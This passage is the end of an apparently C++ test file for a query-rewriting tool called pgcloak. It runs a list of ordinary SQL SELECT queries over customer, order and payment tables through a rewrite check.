           "SELECT c.id, count(o.id) FROM customers c JOIN orders o ON o.customer_id = c.id GROUP BY c.id "
           "ORDER BY c.id",
           "SELECT c.id, c.email, sum(o.amount) FROM customers c JOIN orders o ON o.customer_id = c.id WHERE "
           "o.status = 'paid' GROUP BY c.id, c.email ORDER BY 3 DESC LIMIT 10",
           "SELECT id, created_at FROM customers ORDER BY id LIMIT 10",
           "SELECT date_trunc('month', paid_at) AS m, sum(amount) FROM payments GROUP BY m ORDER BY m",
           "SELECT o.status, count(DISTINCT c.id) FROM orders o LEFT JOIN customers c ON c.id = "
           "o.customer_id "
           "GROUP BY o.status",
           "SELECT id, email, phone FROM customers WHERE id = 7",
           "SELECT count(*) FROM payments_2025_01 WHERE amount > 100",
           "SELECT p.amount FROM payments p JOIN customers c ON c.id = p.customer_id WHERE c.id < 100",
           "SELECT id, full_name FROM customer_contacts ORDER BY id",
       }) {
    rewritten_for_both(sql);
  }
}

}  // namespace
}  // namespace pgcloak::rules
